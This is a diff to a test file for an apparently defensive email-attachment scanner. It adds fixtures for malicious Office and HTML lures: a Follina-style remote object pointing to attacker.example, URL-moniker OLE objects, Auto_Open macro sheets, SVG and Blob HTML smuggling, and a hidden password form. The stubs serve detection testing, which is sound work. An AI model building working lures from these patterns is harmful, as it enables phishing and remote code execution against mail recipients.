@@ -15,6 +15,7 @@ from gatepost.checks.attachments.formats import MAGIC, Kind
 from gatepost.checks.attachments.inspect import inspect_file
 from gatepost.checks.attachments.item import Inspection
 from gatepost.checks.attachments.kinds import kind_of
+from gatepost.checks.attachments.objects import URL_MONIKER
 from gatepost.mail import limits
 from support import files
 from support.compound_file import Storage, compound
@@ -73,7 +74,7 @@ OFFICE = [
     (
         "follina.docx",
         files.docx(parts={RELS: files.relation("oleObject", "mhtml:https://attacker.example/x.html!x")}),
-        {"external"},
+        {"remote-object"},
     ),
     (
         "dde.docx",
@@ -192,11 +193,38 @@ PAGES = [
         {"redirect", "activehtml"},
     ),
     ("opens.html", b"<html><a href='search-ms:query=x&crumb=location:\\\\192.0.2.1'>x</a>", {"protocol"}),
-    ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><circle/></svg>", {"activehtml"}),
+    (
+        "drawing.svg",
+        b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><circle/></svg>",
+        {"activehtml", "active-drawing"},
+    ),
     (
         "smuggles.svg",
         b"<svg><script>x='" + base64.b64encode(files.archive({"a": "b" * 50})) + b"'</script></svg>",
+        {"smuggled", "activehtml", "active-drawing"},
+    ),
+]
+
+PAGES += [
+    (
+        "frame.html",
+        b"<iframe src='data:text/html;base64," + base64.b64encode(b"<html><input type=password name=p></html>") + b"'>",
+        {"obfuscated", "login-form"},
+    ),
+    (
+        "taken apart.html",
+        b"<script>x=window['URL']['createObje'+'ctURL'](new window['Bl'+'ob']([y]))</script>",
         {"smuggled", "activehtml"},
+    ),
+]
+OFFICE += [
+    ("frame.docx", files.docx(parts={RELS: files.relation("frame", "https://attacker.example/x.html")}), {"external"}),
+    ("moniker.rtf", files.rtf_object("OLE2Link", b"x" * 20 + URL_MONIKER + b"y" * 20), {"object", "remote-object"}),
+    ("moniker.doc", files.doc({"\1Ole": b"x" * 20 + URL_MONIKER + b"y" * 20}), {"remote-object"}),
+    (
+        "sheet.xlsb",
+        files.docx(parts={"xl/macrosheets/sheet1.bin": b"x", "xl/workbook.bin": "Auto_Open".encode("utf-16-le")}),
+        {"macro", "autoopen"},
     ),
 ]
 
